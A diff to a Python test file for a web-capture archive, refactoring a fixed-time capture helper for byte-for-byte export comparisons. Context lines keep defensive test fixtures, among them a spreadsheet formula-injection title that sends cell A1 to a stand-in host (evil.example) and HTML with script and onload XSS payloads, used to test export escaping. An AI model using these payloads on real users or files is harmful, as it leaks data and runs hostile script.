@@ -20,6 +20,7 @@ from capture.types import (
 )
 from storage.archive import Archive
 from storage.models import Article, Claim, Collection, Tag
+from tests.support.captures import fetched as fetched_at
 from tests.support.fixture_site import png_bytes
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -35,14 +36,14 @@ HOSTILE_HTML = ('<p>@SUM(1+1) opened the meeting.</p><script>alert("x")</script>
                 '<svg onload="alert(3)"><circle/></svg>')
 
 
+EXPORT_TIME = datetime(2026, 3, 2, 9, 30, 15, 123456, tzinfo=UTC)
+EXPORT_HEADERS = (("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip"),
+                  ("Server", "nginx"))
+
+
 def fetched(url: str, body: bytes, when: datetime | None = None) -> FetchResult:
-    return FetchResult(
-        requested_url=url, final_url=url, status=200,
-        headers=[("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip"),
-                 ("Server", "nginx")],
-        body=body, sha256=hashlib.sha256(body).hexdigest(),
-        fetched_at=when or datetime(2026, 3, 2, 9, 30, 15, 123456, tzinfo=UTC),
-        content_type="text/html", encoding="utf-8", html=body.decode("utf-8", "replace"))
+    """A capture with fixed headers and time, so exports compare byte for byte."""
+    return fetched_at(url, body, when=when or EXPORT_TIME, headers=EXPORT_HEADERS)
 
 
 def harbour_article(n: int = 0) -> tuple[Extracted, str]:
